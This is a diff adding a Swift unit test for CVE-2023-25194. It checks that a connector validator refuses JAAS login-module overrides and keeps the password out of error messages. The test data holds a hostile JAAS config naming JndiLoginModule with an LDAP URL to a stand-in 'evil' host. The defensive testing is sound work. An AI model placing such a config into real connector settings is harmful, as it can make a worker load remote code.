@@ -165,6 +165,24 @@ struct ConnectorValidationTests {
         #expect(!json.serialized.contains("hunter2"))
     }
 
+    /// CVE-2023-25194: a JAAS config in a connector's client overrides names a login module the worker would load.
+    @Test func loginModulesAreRefusedWithoutEchoingTheSecret() throws {
+        let plugin = try ConnectorPlugins.named("FileStreamSink")
+        let jaas = "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil\" password=\"s3cret\";"
+        let validation = ConnectorValidation(plugin: plugin, config: [
+            "name": "s", "connector.class": "FileStreamSink", "topics": "a", "consumer.override.sasl.jaas.config": jaas,
+            "sasl.jaas.config": "org.apache.kafka.common.security.plain.PlainLoginModule required;",
+        ])
+        #expect(validation.errors.map(\.name) == ["consumer.override.sasl.jaas.config", "sasl.jaas.config"])
+        #expect(validation.failureMessage.contains("com.sun.security.auth.module.JndiLoginModule"))
+        #expect(validation.failureMessage.contains("PlainLoginModule"))
+        #expect(!validation.failureMessage.contains("s3cret") && !validation.failureMessage.contains("evil"))
+        #expect(!validation.json.serialized.contains("s3cret"))
+        #expect(ConnectorValidation(plugin: plugin, config: [
+            "name": "s", "connector.class": "FileStreamSink", "topics": "a", "consumer.override.sasl.mechanism": "PLAIN",
+        ]).errorCount == 0)
+    }
+
     @Test func badConverterAndTransformClassesAreErrors() throws {
         let plugin = try ConnectorPlugins.named("FileStreamSink")
         let validation = ConnectorValidation(plugin: plugin, config: [
